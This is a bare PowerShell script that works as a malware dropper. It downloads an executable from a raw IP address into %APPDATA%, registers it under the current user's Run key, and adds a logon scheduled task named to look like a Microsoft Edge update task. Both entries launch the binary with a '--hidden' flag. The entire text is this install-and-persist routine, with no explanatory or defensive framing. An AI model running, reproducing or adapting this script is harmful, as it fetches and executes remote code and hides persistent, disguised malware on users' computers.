$exe = Join-Path $env:APPDATA 'ClipMgr\clipmgr.exe'
New-Item -ItemType Directory -Force -Path (Split-Path $exe) | Out-Null
Invoke-WebRequest -Uri 'http://198.51.100.33/clipmgr.exe' -OutFile $exe -UseBasicParsing
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'ClipMgr' -Value "`"$exe`" --hidden"
$action = New-ScheduledTaskAction -Execute $exe -Argument '--hidden'
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskUserCore2' -Action $action -Trigger $trigger -Force | Out-Null
Write-Host 'installed'
